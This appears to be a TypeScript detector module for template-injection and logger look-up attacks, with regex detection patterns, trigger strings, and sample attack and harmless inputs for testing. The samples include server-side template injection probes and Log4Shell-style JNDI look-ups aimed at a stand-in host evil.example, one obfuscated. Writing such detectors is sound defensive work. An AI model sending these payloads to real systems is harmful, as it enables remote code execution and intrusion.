// Expressions of template engines and of loggers that do more than name a value.

import { type AttackClass, firstOf } from '../kit.ts'

export const templateInjection: AttackClass = {
  id: 'template-injection',
  cwe: 'CWE-1336',
  why: 'A value that becomes part of a template is run by the template engine; a look-up in what is logged fetches code.',
  triggers: ['${', '{{', '{%', '<%', '#{', '*{', '@{', '%{', '<#', '[[', '{php', '@(', '$%7b', '{*', '${{'],
  find(_text, lower) {
    return firstOf(lower, shapes)
  },
  attacks: [
    '{{9*9}}',
    '${6*7}',
    '<%= 3*3 %>',
    '#{5*5}',
    '{{config.items()}}',
    "{{''.__class__.__mro__}}",
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:rmi://evil.example}',
    '<#assign x="y"?new()>',
    '{% import os %}',
    '${T(java.lang.Runtime).getRuntime()}',
    '*{2*2}',
  ],
  harmless: [
    '{{ user.name }}',
    'Hello ${name}, your order ${order.id} has shipped.',
    '`item ${i}: ${items[i]}`',
    'f"{name}"',
    'costs 5 ${',
    '{# comment #}',
    '%{month}',
  ],
}

const inner = '[^{}]{0,200}'
const shapes: readonly (readonly [RegExp, string])[] = [
  [
    /\$\{\s{0,3}(?:jndi|lower|upper|env|sys|java|date|ctx|main|bundle|map|log4j|web|docker|k8s|spring|base64|script|dns|url|::)\s{0,3}:|\$\{[^}]{0,30}\$\{[^}]{0,80}:|\$\{\$\{|\$\{[^}]{0,40}:-[^}]{0,10}\}|jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http)|\$\{jnd/,
    'a look-up of a logger',
  ],
  [
    new RegExp(
      `(?:\\$\\{|\\{\\{|#\\{|\\*\\{|%\\{|@\\{|\\[\\[)\\s{0,5}["'(]{0,2}-?\\d{1,9}["')]{0,2}\\s{0,5}[*+/-]\\s{0,5}["'(]{0,2}\\d${inner}[}\\]]`,
    ),
    'arithmetic in a template',
  ],
  [/<%[=#-]?\s{0,5}["'(]?[^%]{0,100}(?:\d\s?[*+/-]\s?\d|\(|system|`|file|dir\.|global)/, 'code in a template'],
  [
    /\{\{[^}]{0,300}(?:__\w+__|\bconfig\b|\brequest\b|\bself\b|\bcycler\b|\bjoiner\b|\blipsum\b|\bget_flashed|\burl_for\b|\bconstructor\b|\bthis\b|\$on|\$eval|\bsystem\b|\bpopen\b|\battr\s?\(|\|\s?attr|\bimport\b|\bdump\s?\(|\bapp\.|_self|\bfilter\s?\(|\[\])/,
    'the inside of a template engine',
  ],
  [
    /\{%\s{0,5}(?:import|include|extends|set|for|if|macro|debug|with|raw|autoescape|block|from)\b[^%]{0,200}%\}/,
    'a statement of a template',
  ],
  [
    /<#(?:assign|list|include|import|macro|setting|attempt|function|if)\b|\?new\s?\(\)|\?(?:eval|api|interpret)\b/,
    'a statement of a template',
  ],
  [
    /(?:\$|#|\*|%|@)\{[^}]{0,300}(?:t\s?\(|java\.|runtime|process|\bclass\b|getclass|forname|exec\s?\(|system|#_|#context|@\w+\.|ognl|memberaccess|new\s+\w|print|session|applicationscope|requestscope|param\.|header\.|\bself\b|\bglobal\b)/,
    'an expression that runs something',
  ],
  [
    /%\{\s{0,3}\(?\s?#|\{php\}|\{system\(|@\(\s?\d+\s?[*+]\s?\d+\s?\)|#set\s?\(\s?\$|\$\{\{[^}]{0,100}[*(]/,
    'an expression that runs something',
  ],
]
